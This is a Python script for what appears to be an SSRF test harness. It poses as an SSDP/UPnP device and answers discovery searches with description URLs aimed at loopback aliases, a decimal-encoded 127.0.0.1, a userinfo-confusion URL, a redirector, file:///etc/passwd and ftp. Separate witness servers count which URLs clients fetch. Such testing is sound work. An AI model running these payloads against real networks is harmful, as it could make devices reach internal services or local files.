"""Says that its description lies elsewhere: ADDRESS COUNTERS WITNESS:PORT LOOPBACK_PORT PUBLIC:PORT.

The three others count who comes; the fake itself only redirects.
"""

import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from common import Counters, join_ssdp, searches, ssdp_answer

PORT = 8080


def main() -> None:
    own, path, witness, loopback, public = sys.argv[1:6]
    counters = Counters(path, searches=0, redirects=0)

    class Redirector(BaseHTTPRequestHandler):
        def do_GET(self):
            counters.add("redirects")
            self.send_response(302)
            self.send_header("Location", f"http://{witness}/description.xml")
            self.end_headers()

        def log_message(self, *_):
            pass

    threading.Thread(target=ThreadingHTTPServer(("", PORT), Redirector).serve_forever, daemon=True).start()
    targets = [
        f"http://{witness}/description.xml",
        f"http://127.0.0.1:{loopback}/description.xml",
        f"http://localhost:{loopback}/description.xml",
        f"http://[::1]:{loopback}/description.xml",
        f"http://0.0.0.0:{loopback}/description.xml",
        f"http://2130706433:{loopback}/description.xml",
        f"http://{public}/description.xml",
        f"http://{own}:{PORT}@{witness}/description.xml",
        f"http://{own}:{PORT}/redirect.xml",
        "file:///etc/passwd",
        f"ftp://{witness}/description.xml",
    ]
    sock = join_ssdp(own)
    for sender in searches(sock):
        counters.add("searches")
        for number, target in enumerate(targets):
            sock.sendto(ssdp_answer(target, f"00000000-e15e-4000-8000-{number:012x}"), sender)


main()
